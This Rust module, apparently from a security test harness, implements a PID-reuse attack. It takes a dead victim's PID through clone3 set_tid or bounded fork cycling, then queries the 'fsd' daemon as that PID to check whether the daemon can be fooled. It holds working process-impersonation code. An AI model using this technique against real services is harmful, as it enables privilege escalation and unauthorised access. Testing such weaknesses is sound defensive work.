//! PID reuse: get a process of our own the PID a victim had, then ask fsd as that PID.
//!
//! Two ways to land on a PID: clone3 with `set_tid` (needs CAP_CHECKPOINT_RESTORE over the PID
//! namespace; Docker's default seccomp makes clone3 fail with ENOSYS), then cycling: fork
//! children that exit at once until the kernel hands out the PID again, which is only feasible
//! when the PID namespace's pid_max is small. When neither works in time the verdict is
//! SKIPPED with the reason, never a pass. Every fork is reaped at once; the loop is bounded by a
//! deadline and a fork budget.

use std::time::Instant;

use nix::errno::Errno;
use nix::sys::wait::{WaitStatus, waitpid};
use nix::unistd::{ForkResult, Pid, fork};

use crate::attack::{Target, confused};
use crate::verdict::Verdict;

/// Above this pid_max, cycling is not tried (a wrap would take minutes).
pub const MAX_CYCLE: i64 = 200_000;

/// After a wrap the kernel allocates pids from here up (RESERVED_PIDS in kernel/pid.c).
pub const RESERVED_PIDS: i32 = 300;

/// How the attacker got the PID.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Landing {
    SetTid,
    Cycling,
}

/// The victim's pid: given, or read from a file (`deputy-client --pid-file` writes one).
pub fn victim_pid(pid: Option<i32>, file: Option<&std::path::Path>) -> Result<i32, String> {
    match (pid, file) {
        (Some(p), _) => Ok(p),
        (None, Some(f)) => {
            let text = std::fs::read_to_string(f)
                .map_err(|e| format!("cannot read {}: {e}", f.display()))?;
            text.trim()
                .parse()
                .map_err(|_| format!("{} does not hold a pid: {text:?}", f.display()))
        }
        (None, None) => Err("give --victim-pid or --victim-pid-file".to_string()),
    }
}

fn pid_max() -> Result<i64, String> {
    let text = std::fs::read_to_string("/proc/sys/kernel/pid_max")
        .map_err(|e| format!("cannot read /proc/sys/kernel/pid_max: {e}"))?;
    text.trim()
        .parse()
        .map_err(|_| format!("/proc/sys/kernel/pid_max holds {text:?}"))
}

fn alive(pid: i32) -> bool {
    !matches!(
        nix::sys::signal::kill(Pid::from_raw(pid), None),
        Err(Errno::ESRCH)
    )
}

/// Run in a child that has the victim's PID: ask fsd and exit with the verdict's code.
fn as_victim(t: &Target, name: &str, how: Landing, show: bool) -> ! {
    let verdict = confused(t, name);
    let verdict = match verdict {
        Verdict::Succeeded { what, body } => Verdict::Succeeded {
            what: format!("{what} (as reused pid {}, by {how:?})", std::process::id()),
            body,
        },
        other => other,
    };
    let _ = verdict.report("pid-reuse", show);
    // SAFETY: _exit ends this forked child without running the parent's exit handlers twice.
    unsafe { libc::_exit(i32::from(verdict.code())) }
}

fn reap(child: Pid) -> Option<u8> {
    loop {
        match waitpid(child, None) {
            Ok(WaitStatus::Exited(_, code)) => return u8::try_from(code).ok(),
            Ok(WaitStatus::Signaled(..)) => return None,
            Ok(_) => continue,
            Err(Errno::EINTR) => continue,
            Err(_) => return None,
        }
    }
}

#[repr(C)]
#[derive(Default)]
struct CloneArgs {
    flags: u64,
    pidfd: u64,
    child_tid: u64,
    parent_tid: u64,
    exit_signal: u64,
    stack: u64,
    stack_size: u64,
    tls: u64,
    set_tid: u64,
    set_tid_size: u64,
    cgroup: u64,
}

/// clone3 with set_tid = [pid]: Ok(Some(code)) when a child ran with the PID, Err(reason).
fn by_set_tid(t: &Target, pid: i32, name: &str, show: bool) -> Result<u8, String> {
    let tid: [libc::pid_t; 1] = [pid];
    let args = CloneArgs {
        exit_signal: libc::SIGCHLD as u64,
        set_tid: tid.as_ptr() as u64,
        set_tid_size: 1,
        ..CloneArgs::default()
    };
    // SAFETY: clone3 without CLONE_VM behaves like fork: the child gets a copy of this
    // single-threaded process and only runs `as_victim`, which ends in _exit.
    let ret = unsafe {
        libc::syscall(
            libc::SYS_clone3,
            &args as *const CloneArgs,
            std::mem::size_of::<CloneArgs>(),
        )
    };
    match ret {
        0 => as_victim(t, name, Landing::SetTid, show),
        r if r > 0 => reap(Pid::from_raw(r as i32)).ok_or_else(|| "the child was killed".into()),
        _ => {
            let e = Errno::last();
            Err(format!("clone3 with set_tid failed: {e}"))
        }
    }
}

/// Land on `pid` and ask fsd for `name` as it.
/// What came of the attempt: the child that had the PID printed its own verdict line and
/// its exit code is the code; otherwise a verdict the caller prints.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Outcome {
    Reported(u8),
    Verdict(Verdict),
}

pub fn pid_reuse(t: &Target, pid: i32, name: &str, max_forks: u64, show: bool) -> Outcome {
    match attempt(t, pid, name, max_forks, show) {
        Ok(code) => Outcome::Reported(code),
        Err(v) => Outcome::Verdict(v),
    }
}

fn attempt(t: &Target, pid: i32, name: &str, max_forks: u64, show: bool) -> Result<u8, Verdict> {
    if pid <= 1 {
        return Err(Verdict::Failed(format!("{pid} is not a victim's pid")));
    }
    while alive(pid) {
        if Instant::now() >= t.deadline {
            return Err(Verdict::Failed(format!(
                "the victim (pid {pid}) is still running"
            )));
        }
        // Bounded wait for the victim to end (it normally has already).
        std::thread::sleep(std::time::Duration::from_millis(5));
    }
    let set_tid = match by_set_tid(t, pid, name, show) {
        Ok(code) => return Ok(code),
        Err(why) => why,
    };
    if pid < RESERVED_PIDS {
        return Err(Verdict::Skipped(format!(
            "{set_tid}; and pid {pid} is below {RESERVED_PIDS}: after a wrap the kernel hands \
             out pids from {RESERVED_PIDS} up, so cycling cannot reach it"
        )));
    }
    let max = match pid_max() {
        Ok(m) => m,
        Err(e) => return Err(Verdict::Failed(e)),
    };
    if i64::from(pid) >= max {
        return Err(Verdict::Skipped(format!(
            "{set_tid}; and pid {pid} is not below this namespace's pid_max ({max})"
        )));
    }
    if max > MAX_CYCLE {
        return Err(Verdict::Skipped(format!(
            "{set_tid}; and pid_max is {max}, too large to cycle through (run in a PID namespace \
             with pid_max <= {MAX_CYCLE}, kernel 6.14 or later)"
        )));
    }
    let mut forks = 0u64;
    while Instant::now() < t.deadline && forks < max_forks {
        forks += 1;
        // SAFETY: this process is single-threaded here; the child either exits at once or runs
        // `as_victim`, which ends in _exit.
        match unsafe { fork() } {
            Ok(ForkResult::Child) => {
                if std::process::id() as i32 == pid {
                    as_victim(t, name, Landing::Cycling, show);
                }
                // SAFETY: end the child at once without exit handlers.
                unsafe { libc::_exit(0) }
            }
            Ok(ForkResult::Parent { child }) => {
                let code = reap(child);
                if child.as_raw() == pid {
                    return code.ok_or_else(|| Verdict::Failed("the child was killed".into()));
                }
            }
            Err(Errno::EAGAIN) => {
                return Err(Verdict::Skipped(format!(
                    "{set_tid}; and fork failed with EAGAIN after {forks} forks (process limit)"
                )));
            }
            Err(e) => return Err(Verdict::Failed(format!("fork: {e}"))),
        }
    }
    Err(Verdict::Skipped(format!(
        "{set_tid}; and {forks} forks (pid_max {max}) did not reach pid {pid} before the deadline"
    )))
}
